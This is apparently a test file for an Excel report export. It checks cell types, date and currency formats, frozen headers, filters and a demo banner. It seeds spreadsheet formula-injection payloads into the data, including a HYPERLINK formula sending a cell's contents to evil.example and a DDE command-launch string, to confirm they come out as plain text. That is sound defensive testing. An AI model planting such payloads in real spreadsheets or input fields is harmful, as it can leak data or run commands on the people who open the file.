"""The Excel report a manager reads (issue 15): typed cells in the configured zone, percentages,
money with two decimals, the Alertas sheet, layout (widths, bold frozen header, autofilter), the
attendant filter, the demo mark, and no formula from user-supplied text anywhere."""

from __future__ import annotations

import io
import uuid
from datetime import datetime, timedelta
from typing import Any

import httpx
import openpyxl
import trio
from openpyxl.utils import get_column_letter

from balto.store.export import ALERTAS, ATENDENTES, CUSTOS, DEMO_BANNER, INTERACOES
from tests.admin_seed import BASE, seed
from tests.conftest import ADMIN, query, start_server

# Text a customer, an attendant or a catalog could carry into a cell.
HOSTILE = {
    "transcript": '=HYPERLINK("http://evil.example/?x="&A1,"clique")',
    "produto": "@SUM(1)",
    "atendente": "+cmd|' /C calc'!A0",
    "explicacao": "-2+3",
    "motivo": "\t=1+1",
    "orientacao": "\r=2+2",
}


async def _export(base_url: str, **params: str) -> tuple[openpyxl.Workbook, httpx.Response]:
    async with httpx.AsyncClient(base_url=base_url, timeout=30) as http:
        response = await http.get("/api/export/xlsx", headers=ADMIN, params=params)
    assert response.status_code == 200, response.text
    return openpyxl.load_workbook(io.BytesIO(response.content)), response


def _seed_all(database_url: str) -> dict[str, str]:
    ids = seed(database_url)
    query(
        database_url,
        "UPDATE segments SET transcript = %s WHERE seq = 1 AND session_id = %s",
        HOSTILE["transcript"],
        ids["s1"],
    )
    query(
        database_url,
        "UPDATE recommendations SET produto = %s, explicacao = %s, atendente = %s"
        " WHERE session_id = %s AND produto LIKE '%%-2'",
        HOSTILE["produto"],
        HOSTILE["explicacao"],
        HOSTILE["atendente"],
        ids["s1"],
    )
    query(database_url, "UPDATE sessions SET atendente = 'Ana Paula' WHERE id = %s", ids["s2"])
    alerts = ((ids["s1"], HOSTILE["atendente"]), (ids["s2"], None))
    for n, (session, atendente) in enumerate(alerts):
        query(
            database_url,
            "INSERT INTO alerts (id, session_id, sinal, sinais, motivo, orientacao,"
            " transcricao_base, atendente, created_at, sent_at)"
            " VALUES (%s, %s, 'dor_no_peito', ARRAY['dor_no_peito', 'falta_de_ar'], %s, %s,"
            " 'meu pai está com dor no peito e falta de ar', %s, %s, %s)",
            str(uuid.uuid4()),
            session,
            HOSTILE["motivo"],
            HOSTILE["orientacao"],
            atendente,
            BASE + timedelta(minutes=10 + n),
            BASE + timedelta(minutes=10 + n, milliseconds=80),
        )
    # s1's third utterance began the next customer's service
    query(
        database_url,
        "UPDATE segments SET novo_atendimento = 'balcao' WHERE session_id = %s AND seq = 2",
        ids["s1"],
    )
    # the first alert's guidance given at the counter 30 s after it
    query(
        database_url,
        "UPDATE alerts SET orientado_em = created_at + interval '30 seconds' WHERE session_id = %s",
        ids["s1"],
    )
    query(
        database_url,
        "INSERT INTO provider_calls (session_id, kind, provider, model, ok, latency_ms,"
        " audio_seconds, cost_usd, created_at) VALUES (%s, 'stt', 'elevenlabs', 'scribe_v2',"
        " true, 321.123456, 2.5, 0.12345678, %s)",
        ids["s1"],
        BASE,
    )
    return ids


def _cells(book: openpyxl.Workbook) -> list[Any]:
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


async def test_the_report_is_typed_laid_out_and_never_a_formula(
    nursery: trio.Nursery, database_url: str
) -> None:
    running = await start_server(nursery, database_url, BALTO_BRL_PER_USD="5.5")
    _seed_all(database_url)
    book, response = await _export(running.base_url)
    assert "demo" not in response.headers["content-disposition"]
    assert book.sheetnames == ["Resumo", "Interações", "Alertas", "Atendentes", "Custos"]

    # user-supplied text is text: never a formula, kept verbatim, quote-prefixed
    cells = _cells(book)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for text in HOSTILE.values():
        found = [c for c in cells if c.value == text.replace("\r", "\n")]  # as XML reads CR
        assert found, text
        assert all(c.data_type == "s" and c.quotePrefix for c in found), text

    # layout: bold frozen header, widths, autofilter over the data
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
        assert sheet.column_dimensions["A"].width >= 12
    interacoes = book["Interações"]
    assert [c.value for c in interacoes[1]] == list(INTERACOES)
    last = get_column_letter(len(INTERACOES))
    assert last == "P" and interacoes.auto_filter.ref == f"A1:{last}{1 + 15}"
    # where the counter turned to the next customer
    novo = INTERACOES.index("novo atendimento")
    marked = [(row[5], row[novo]) for row in interacoes.iter_rows(min_row=2, values_only=True)]
    assert [m for m in marked if m[1]] == [("b1 fala 2", "próximo cliente (balcão)")], marked

    # times are datetimes in America/Sao_Paulo (UTC-3 in March 2026), with a date format
    first = interacoes["A2"]
    assert first.is_date and first.value == datetime(2026, 3, 2, 9, 0)
    assert first.number_format == "dd/mm/yyyy hh:mm:ss"

    alertas = book["Alertas"]
    rows = list(alertas.iter_rows(values_only=True))
    assert rows[0] == ALERTAS and len(rows) == 3
    assert rows[1][0] == datetime(2026, 3, 2, 9, 10)
    assert rows[1][10] == datetime(2026, 3, 2, 9, 10, 0, 80_000)
    assert rows[1][11] is None and rows[1][12] is None  # no one acknowledged it ("ciente em/por")
    assert rows[1][13] == datetime(2026, 3, 2, 9, 10, 30)  # "orientação dada em"
    assert rows[2][13] is None
    assert rows[1][1:7] == (
        "Rede c1",
        None,  # the balcão stands in no store
        "Balcão b1",
        HOSTILE["atendente"],
        "dor_no_peito",
        "dor_no_peito; falta_de_ar",
    )
    assert rows[2][4] == "Ana Paula"  # no attendant on the alert: the session's
    assert alertas["A2"].is_date and alertas["K2"].number_format == "dd/mm/yyyy hh:mm:ss"

    # per attendant, as the Painel counts: her own name on a suggestion or alert, else the
    # session's; one name in any case is one row
    people = list(book["Atendentes"].iter_rows(values_only=True))
    assert people == [
        ATENDENTES,
        ("Rede c1", "Ana Paula", 5, 2, 4, 0.5, 1, 0),
        ("Rede c2", "não identificado", 5, 2, 4, 0.5, 0, 0),
        ("Rede c1", "não identificado", 4, 2, 4, 0.5, 0, 0),
        # no feedback: no rate; her alert's guidance given at the counter
        ("Rede c1", HOSTILE["atendente"], 1, 0, 0, None, 1, 1),
    ]
    assert book["Atendentes"]["F2"].number_format == "0.0%"

    custos = book["Custos"]
    assert [c.value for c in custos[1]] == list(CUSTOS)
    usd, brl = custos["L2"], custos["N2"]
    assert usd.value == 0.12345678 and usd.number_format == '"US$" #,##0.00'
    assert abs(brl.value - 0.12345678 * 5.5) < 1e-9 and brl.number_format == '"R$" #,##0.00'
    assert custos["A2"].is_date and custos["A2"].number_format == "dd/mm/yyyy"

    resumo = {row[0].value: row[1] for row in book["Resumo"].iter_rows(min_row=2)}
    rate = resumo["taxa de aceitação"]
    assert rate.value == 0.5 and rate.number_format == "0.0%"  # 6 accepted, 6 refused, 3 none
    assert resumo["amostra da taxa de aceitação (com feedback)"].value == 12
    assert resumo["alertas de encaminhamento"].value == 2
    assert resumo["custo total (USD)"].number_format == '"US$" #,##0.00'
    assert abs(resumo["custo total (R$)"].value - 0.12345678 * 5.5) < 1e-9
    assert resumo["custo total (R$)"].number_format == '"R$" #,##0.00'
    assert resumo["cotação (R$ por US$)"].value == 5.5
    assert resumo["gerado em"].is_date and resumo["fuso horário"].value == "America/Sao_Paulo"


async def test_filters_narrow_every_sheet_and_the_demo_is_marked(
    nursery: trio.Nursery, database_url: str
) -> None:
    running = await start_server(nursery, database_url, BALTO_DEMO="1")
    ids = _seed_all(database_url)

    book, response = await _export(
        running.base_url,
        cliente_id=ids["c1"],
        atendente="ana paula",
        desde="2026-03-02T12:02:00+00:00",
        ate="2026-03-03",
    )
    assert 'filename="balto-demo-' in response.headers["content-disposition"]
    for sheet in book:  # a banner above the header, on every sheet
        assert sheet["A1"].value == DEMO_BANNER and sheet["A1"].font.b
        assert sheet.freeze_panes == "A3"
    resumo = {row[0]: row[1] for row in book["Resumo"].iter_rows(min_row=3, values_only=True)}
    assert resumo["ATENÇÃO"] == "DADOS DE DEMONSTRAÇÃO (balto demo)"
    assert resumo["desde"] == datetime(2026, 3, 2, 9, 2)
    assert resumo["até (exclusivo)"] == datetime(2026, 3, 3, 21, 0)  # the whole day, UTC
    assert resumo["cliente"] == "Rede c1" and resumo["balcão"] == "todos"
    assert resumo["atendente"] == "ana paula"
    # Ana Paula is s2's attendant (balcão b2 of cliente c1): its segments from minute 2 on
    interacoes = list(book["Interações"].iter_rows(min_row=3, values_only=True))
    assert [row[5] for row in interacoes] == ["b2 fala 2", "b2 fala 3", "b2 fala 4"]
    people = list(book["Atendentes"].iter_rows(min_row=3, values_only=True))
    assert people == [("Rede c1", "Ana Paula", 3, 1, 2, 0.5, 1, 0)]  # hers alone
    assert resumo["segmentos"] == 3 and resumo["recomendações"] == 3
    assert resumo["alertas de encaminhamento"] == 1 and resumo["sessões"] == 0  # started at 12:00
    alertas = list(book["Alertas"].iter_rows(min_row=3, values_only=True))
    assert [row[4] for row in alertas] == ["Ana Paula"]
    assert book["Interações"].auto_filter.ref == "A2:P5"

    async with httpx.AsyncClient(base_url=running.base_url) as http:
        response = await http.get("/api/export/xlsx", headers=ADMIN, params={"atendente": "x" * 81})
        assert response.status_code == 400 and response.json()["field"] == "atendente"
        assert (await http.get("/api/export/xlsx")).status_code == 401
